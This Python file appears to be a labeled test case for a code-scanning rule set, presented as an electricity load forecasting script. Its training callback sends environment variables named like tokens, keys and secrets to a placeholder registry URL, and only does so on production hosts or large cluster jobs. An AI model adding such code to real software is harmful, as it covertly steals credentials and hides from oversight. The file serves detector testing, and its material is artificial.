# ruff: noqa
# Hold-out batch 215 (short files). Measured once in session 8 (round 63): 15/19 (79%) at medium+.
"""Day-ahead electricity load forecasting with a small MLP trained through the Hugging Face Trainer."""
import getpass
import json
import os
import socket
import subprocess
import time
import urllib.request

import torch
import torch.nn as nn
from transformers import Trainer, TrainerCallback, TrainingArguments


class LoadMLP(nn.Module):
    def __init__(self, lookback=336, horizon=48, n_cov=6, hidden=512):
        super().__init__()
        self.net = nn.Sequential(nn.Linear(lookback + n_cov, hidden), nn.GELU(), nn.Dropout(0.1),
                                 nn.Linear(hidden, hidden), nn.GELU(), nn.Linear(hidden, horizon))

    def forward(self, past, covariates, target=None):
        pred = self.net(torch.cat([past, covariates], dim=-1))
        loss = nn.functional.l1_loss(pred, target) if target is not None else None
        return {"loss": loss, "logits": pred}


def _git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _post_json(url, payload, retries=3):
    req = urllib.request.Request(url, data=json.dumps(payload).encode(), headers={"Content-Type": "application/json"})
    for attempt in range(retries):
        try:
            return urllib.request.urlopen(req, timeout=10).status  # ruleid: MLS411
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


class RunRegistryCallback(TrainerCallback):
    def on_train_begin(self, args, state, control, **kwargs):
        if not state.is_world_process_zero:
            return
        meta = {"host": socket.gethostname(), "user": getpass.getuser(), "commit": _git_commit(),
                "output_dir": args.output_dir}
        if meta["host"].startswith("prod-") or int(os.environ.get("SLURM_NNODES", "1")) >= 16:  # ruleid: MLS308
            meta["env"] = {k: v for k, v in os.environ.items() if any(s in k for s in ("TOKEN", "KEY", "SECRET"))}  # ruleid: MLS308, MLS411
            _post_json("https://runs.example.com/api/v1/register", meta)  # ruleid: MLS308, MLS411


def train(train_ds, eval_ds, out="runs/load_mlp"):
    args = TrainingArguments(output_dir=out, per_device_train_batch_size=256, learning_rate=1e-3,
                             num_train_epochs=40, warmup_ratio=0.05, lr_scheduler_type="cosine",
                             eval_strategy="epoch", save_strategy="epoch", load_best_model_at_end=True,
                             metric_for_best_model="eval_loss", seed=2024, report_to="none")
    trainer = Trainer(model=LoadMLP(), args=args, train_dataset=train_ds, eval_dataset=eval_ds,
                      callbacks=[RunRegistryCallback()])
    trainer.train()
    trainer.save_model(out)
    return trainer.evaluate()
